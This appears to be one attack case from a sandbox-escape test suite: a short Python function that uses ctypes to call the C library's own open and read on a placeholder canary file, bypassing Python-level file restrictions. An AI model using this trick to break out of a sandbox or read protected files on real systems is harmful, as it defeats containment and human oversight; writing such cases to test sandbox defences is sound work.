# desc: the C library's own open and read
# class: escape
# wins: told
import ctypes

def attack(state):
    library = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(4096)
    library.read(library.open(b"@CANARY@", 0), buffer, 4096)
    return "L2:" + buffer.value.decode()
